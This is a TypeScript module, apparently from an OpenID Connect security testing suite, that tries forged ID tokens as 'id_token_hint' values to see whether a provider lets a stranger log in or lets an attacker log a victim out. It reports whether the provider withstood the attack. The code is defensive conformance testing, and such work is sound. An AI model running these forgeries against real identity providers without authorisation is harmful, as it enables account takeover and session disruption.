/** Attacks with forged `id_token_hint`s. */
import { succeeded, withstood } from '../attack.js';
import type { AttackContext } from '../context.js';
import { random } from '../request.js';
import { firstTaken, forgeriesOf, publishedKeys, withOwnKey } from '../signed/forgeries.js';
import type { Visitor } from '../visitor.js';
import { openLogout } from './logout.js';
import { openidAttack, type Provider } from './provider.js';

/** Whether a hint is enough to log a stranger in. */
export async function logsIn({ ask }: Provider, { target, stranger }: AttackContext, hint: string): Promise<boolean> {
  for (const prompt of ['none', undefined])
    if ((await ask(stranger(), target.client, { id_token_hint: hint, prompt })).obtained) return true;
  return false;
}

/** Whether a hint logs a stranger in, or the user out. */
async function counts(provider: Provider, context: AttackContext, victim: Visitor, hint: string): Promise<boolean> {
  const { endpoints } = context;
  if (await logsIn(provider, context, hint)) return true;
  if (endpoints.end_session === undefined) return false;
  await openLogout(victim, endpoints.end_session, { id_token_hint: hint });
  return !(await provider.isLoggedIn(victim));
}

export const idTokenHintForgery = openidAttack(
  {
    name: 'id-token-hint-forgery',
    title: 'an ID token that the server has not signed logs a user in, or out',
    clause: 'OpenID Connect Core §3.1.2.1, RFC 8725 §2.1, §3.10',
  },
  async (provider, context) => {
    const victim = await context.visitor();
    const { idToken } = await provider.logIn(victim, context.target.client);
    const { jwks_uri: uri } = await context.metadata();
    const keys = await publishedKeys(uri);
    const found = await withOwnKey((own) =>
      firstTaken(
        forgeriesOf([], keys, { jti: random() }, own),
        own,
        async () => idToken,
        (hint) => counts(provider, context, victim, hint),
      ),
    );
    return found === undefined ? withstood : succeeded(`a hint ${found}`);
  },
);
